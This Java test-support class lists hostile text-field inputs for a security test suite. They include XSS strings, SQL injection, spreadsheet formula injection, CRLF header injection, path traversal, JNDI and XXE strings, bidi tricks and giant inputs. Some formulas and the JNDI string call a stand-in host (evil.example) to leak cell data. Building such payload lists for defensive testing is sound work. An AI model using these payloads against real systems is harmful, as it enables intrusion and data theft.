package org.reciprocity;

import java.util.ArrayList;
import java.util.List;

/**
 * What an attacker (or an unlucky paste) sends through a text field: scripts, SQL, control and direction
 * characters, invisible padding, broken UTF-16, giant strings, header injection and spreadsheet formulas. Script
 * payloads call {@code __pwned()} (or open a dialog), which a browser test counts: a call means a script ran.
 */
final class HostilePayloads {

    /** One payload and the family it belongs to, for the figures and for failure messages. */
    record Payload(String family, String text) {

        @Override
        public String toString() {
            var shown = text.length() > 60 ? text.substring(0, 60) + "… (" + text.length() + " chars)" : text;
            return family + ": " + shown.codePoints().mapToObj(cp -> cp < 0x20 || cp == 0x7f || cp >= 0x80 && cp < 0xa0
                    || Character.getType(cp) == Character.FORMAT || Character.getType(cp) == Character.SURROGATE
                    ? String.format("\\u%04x", cp) : Character.toString(cp)).reduce("", String::concat);
        }
    }

    private HostilePayloads() {
    }

    static final int MEGABYTE = 1024 * 1024;

    private static final String[] SCRIPTS = {
            "<script>__pwned()</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT><script>__pwned()</script>",
            "<img src=x onerror=__pwned()>",
            "<img src=\"x\" onerror=\"__pwned()\">",
            "<IMG SRC=javascript:__pwned()>",
            "<svg onload=__pwned()>",
            "<svg><script>__pwned()</script></svg>",
            "<body onload=__pwned()>",
            "<iframe src=\"javascript:parent.__pwned()\"></iframe>",
            "<iframe srcdoc=\"<script>parent.__pwned()</script>\"></iframe>",
            "<details open ontoggle=__pwned()>",
            "<video><source onerror=__pwned()></video>",
            "<audio src=x onerror=__pwned()>",
            "<input autofocus onfocus=__pwned()>",
            "<marquee onstart=__pwned()>x</marquee>",
            "<a href=\"javascript:__pwned()\">click me</a>",
            "javascript:__pwned()",
            "JaVaScRiPt:__pwned()",
            "java\tscript:__pwned()",
            "data:text/html,<script>__pwned()</script>",
            "\"><script>__pwned()</script>",
            "'><img src=x onerror=__pwned()>",
            "</textarea><script>__pwned()</script>",
            "</title><script>__pwned()</script>",
            "</style><script>__pwned()</script>",
            "<math><mtext><table><mglyph><style><img src=x onerror=__pwned()>",
            "<noscript><p title=\"</noscript><img src=x onerror=__pwned()>\">",
            "<object data=\"javascript:__pwned()\"></object>",
            "<embed src=\"javascript:__pwned()\">",
            "<form><button formaction=javascript:__pwned()>go</button></form>",
            "<isindex type=image src=1 onerror=__pwned()>",
            "<img src=x onerror=alert(document.domain)>",
            "<script>alert('xss')</script>",
            "<svg/onload=confirm(1)>",
            "<img src=x onerror=prompt(1)>",
            "<img src=x onerror=\"window.__xss=1\">",
            "&lt;script&gt;__pwned()&lt;/script&gt;",
            "&#60;script&#62;__pwned()&#60;/script&#62;",
            "%3Cscript%3E__pwned()%3C%2Fscript%3E",
            "\\u003cscript\\u003e__pwned()\\u003c/script\\u003e",
            "<scr<script>ipt>__pwned()</scr</script>ipt>",
            "<<script>script>__pwned()<</script>/script>",
            "{{constructor.constructor('__pwned()')()}}",
            "${__pwned()}",
            "#{__pwned()}",
            "<%= __pwned() %>",
            "<vaadin-button onclick=__pwned()>x</vaadin-button>",
            "<template><script>__pwned()</script></template>",
            "<link rel=import href=data:text/html,<script>parent.__pwned()</script>>",
            "<meta http-equiv=\"refresh\" content=\"0;url=javascript:__pwned()\">",
            "<div style=\"background:url(javascript:__pwned())\">",
            "<style>@import 'javascript:__pwned()';</style>",
            "<base href=\"javascript:__pwned()//\">",
            "`-__pwned()-`",
            "';__pwned();//",
            "\";__pwned();//",
            "</script><script>__pwned()</script>",
    };

    private static final String[] SQL = {
            "' OR '1'='1",
            "' OR 1=1 --",
            "\" OR \"\"=\"",
            "admin'--",
            "'; DROP TABLE report; --",
            "'; DELETE FROM account; --",
            "1; UPDATE account SET enabled = false; --",
            "' UNION SELECT code_hash, contact_email FROM report --",
            "' UNION SELECT username, password_hash FROM account --",
            "1' AND SLEEP(5) --",
            "1'; SELECT pg_sleep(5); --",
            "'; CALL SYSTEM_RANGE(1, 100000000); --",
            "%' AND 1=1 --",
            "_%",
            "\\'; DROP TABLE report; --",
            "' || (SELECT count(*) FROM report) || '",
            "1 OR 1=1",
            "'))); DROP TABLE review_case; --",
            "$$; DROP TABLE report; $$",
            "E'\\x00'",
            "'; COPY report TO '/tmp/x'; --",
            "' AND extractvalue(1, concat(0x7e, version())) --",
            "SELECT * FROM account WHERE username = '' OR ''=''",
            "'; EXEC xp_cmdshell('dir'); --",
            "{\"$ne\": null}",
            "*)(uid=*))(|(uid=*",
            "'; INSERT INTO account(username) VALUES ('evil'); --",
            "0x27 OR 1=1",
    };

    private static final String[] FORMULAS = {
            "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for details\")",
            "=1+1",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "=cmd|' /C notepad'!'A1'",
            "DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
            "=IMPORTXML(CONCAT(\"http://evil.example/?\", A1), \"//a\")",
            "\t=1+1",
            "\r=1+1",
            "=WEBSERVICE(\"http://evil.example/\")",
            "+1-1",
            "-1+1",
            "@A1",
            "=2*3,=4*5",
    };

    private static final String[] CRLF = {
            "x\r\nSet-Cookie: session=evil",
            "x\r\n\r\n<html><script>__pwned()</script></html>",
            "me@example.com\r\nBcc: victim@example.com",
            "me@example.com\nCc: victim@example.com",
            "line one\rline two",
            "%0d%0aSet-Cookie:%20evil=1",
            "\r\n\r\n\r\n\r\n\r\n",
            "a\u2028b\u2029c\u0085d",
            "Subject: hi\r\nContent-Type: text/html\r\n\r\n<b>x</b>",
            "x\nLocation: http://evil.example/",
    };

    private static final String[] ODDITIES = {
            "../../../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "file:///etc/passwd",
            "${jndi:ldap://evil.example/a}",
            "${7*7}",
            "{{7*7}}",
            "%s%s%s%s%n",
            "%x%x%x%x",
            "null",
            "undefined",
            "NaN",
            "true",
            "[]",
            "{}",
            "\"\"",
            "''",
            "\\",
            "\\\\\\\\",
            "<!--",
            "]]>",
            "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
            "<![CDATA[<script>__pwned()</script>]]>",
            "¯\\_(ツ)_/¯",
            "👨‍👩‍👧‍👦 🏳️‍🌈 👍🏽",
            "Z̴̡̛͓̞a̶̢̛͎l̷̨̛g̵̛o̴̢̧",
            "ｆｕｌｌ　ｗｉｄｔｈ",
            "Ελληνικά Қазақша ქართული 日本語 한국어",
            "مرحبا بالعالم",
            "שלום עולם",
            "e\u0301e\u0301e\u0301 composed later",
            "Ꭿ𝐀𝔄𝕬 look-alikes",
            "раураl.com",
            "A".repeat(10_000),
            "word".repeat(1000),
            "😀".repeat(2001),
            "ж".repeat(4000),
            "x".repeat(4001),
            "x".repeat(200),
            "x".repeat(201),
            "admin@reciprocity.example",
            "Anna.Kovalenko+tell@shop.example.co.uk",
            "x@[127.0.0.1]",
            "x@127.0.0.1",
            "\"quoted local\"@example.com",
            "\"a\\\"b\"@example.com",
            "a..b@example.com",
            "user@localhost",
            "user@xn--80a1acny.xn--j1amh",
            "user@пошта.укр",
            ("l".repeat(64) + "@example.com"),
            ("l".repeat(65) + "@example.com"),
            ("a@" + "d".repeat(63) + "." + "d".repeat(63) + "." + "d".repeat(63) + "." + "d".repeat(57) + ".com"),
    };

    private static final String[] INVISIBLE = {
            "a" + "\u2003".repeat(30),
            "a" + "\u00a0".repeat(30) + "b",
            "\u00a0".repeat(12),
            "\u200b".repeat(12),
            "\u200c\u200d\u2060\ufeff",
            "\u3000\u205f\u202f\u2007\u2009",
            "\t \t \t",
            "\u00ad\u00ad\u00ad",
            "\u180e\u180e",
            "   padded on both sides with plain spaces   ",
            "\u2003\u2003The story starts after em spaces and goes on long enough.\u2003\u2003",
            "inner\u200bzero\u200bwidth\u200bspaces",
            "\u200e\u200fmarks",
    };

    /** Every control character C0 (NUL first) and C1, DEL, inside ordinary text. */
    private static List<String> controls() {
        var list = new ArrayList<String>();
        for (int c = 0; c < 0x20; c++) {
            list.add("before" + (char) c + "after the control character " + c);
        }
        list.add("delete\u007f");
        for (int c : new int[] {0x80, 0x81, 0x8d, 0x90, 0x9b, 0x9f}) {
            list.add("c1" + (char) c + "control");
        }
        list.add("\u0000");
        list.add("\u0000".repeat(50));
        list.add("\u001b[31mred terminal text\u001b[0m");
        return list;
    }

    private static final String[] BIDI = {
            "invoice\u202Etxt.exe",
            "\u202Aleft-to-right embedding",
            "\u202Bright-to-left embedding",
            "pop\u202Cformatting",
            "\u202Dleft-to-right override",
            "price 100\u202E00 UAH",
            "\u2066isolate\u2069",
            "\u2067right isolate\u2069",
            "\u2068first strong isolate\u2069",
            "end with override\u202E",
            "/* admin only \u2067*/ \u2066if (isAdmin)\u2069 \u2066 {",
    };

    private static final String[] BROKEN_UTF16 = {
            "lone high \ud800 surrogate",
            "lone low \udc00 surrogate",
            "reversed \udc00\ud800 pair",
            "ends with a high surrogate \ud83d",
            "\ude00 starts with a low surrogate",
            "non-characters \ufffe\uffff",
            "non-character \ufdd0",
    };

    /** A megabyte of each: letters, no-break spaces, emoji, combining marks on one letter, NULs. */
    private static List<String> giants() {
        return List.of("x".repeat(MEGABYTE), "\u00a0".repeat(MEGABYTE), "😀".repeat(MEGABYTE / 2),
                "a" + "\u0301".repeat(MEGABYTE), "\u0000".repeat(MEGABYTE), "<script>__pwned()</script>".repeat(MEGABYTE / 26));
    }

    static List<Payload> all() {
        var all = new ArrayList<Payload>();
        add(all, "script", List.of(SCRIPTS));
        add(all, "sql", List.of(SQL));
        add(all, "formula", List.of(FORMULAS));
        add(all, "crlf", List.of(CRLF));
        add(all, "oddity", List.of(ODDITIES));
        add(all, "invisible", List.of(INVISIBLE));
        add(all, "control", controls());
        add(all, "bidi", List.of(BIDI));
        add(all, "utf16", List.of(BROKEN_UTF16));
        add(all, "giant", giants());
        return List.copyOf(all);
    }

    private static void add(List<Payload> all, String family, List<String> texts) {
        texts.forEach(text -> all.add(new Payload(family, text)));
    }
}
